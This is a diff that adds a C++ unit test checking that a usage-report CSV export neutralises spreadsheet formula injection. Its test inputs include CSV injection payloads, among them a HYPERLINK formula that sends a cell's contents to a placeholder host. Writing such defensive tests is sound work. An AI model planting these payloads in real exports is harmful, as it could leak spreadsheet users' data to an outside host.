@@ -132,5 +132,18 @@ TEST(ApiViewsTest, UsageCsvQuotesFieldsThatNeedIt) {
                                 "session,2026-11-22,t-1,,u-1,\"o'neil, \"\"jr\"\"\",1.5000\r\n");
 }
 
+// OWASP's CSV injection: a name a spreadsheet would evaluate stays text.
+TEST(ApiViewsTest, UsageCsvDefusesFormulas) {
+  controller::UsageReport r{"2026-11-22", "2026-11-22", {}, {}};
+  for (std::string name : {"=HYPERLINK(\"http://x/?\"&A2,\"Click\")", "+1", "-2+3", "@SUM(A1)", "\tcmd"}) {
+    r.sessions = {{"2026-11-22", "t-1", "u-1", name, 1}};
+    std::string csv = view::usage_csv(r);
+    std::string field = csv.substr(csv.find(",u-1,") + 5);
+    EXPECT_TRUE(field.starts_with("'") || field.starts_with("\"'")) << field;
+  }
+  r.sessions = {{"2026-11-22", "t-1", "u-1", "ana-maria", 1}};
+  EXPECT_NE(view::usage_csv(r).find(",ana-maria,"), std::string::npos) << "only the first character counts";
+}
+
 }  // namespace
 }  // namespace oriel::api
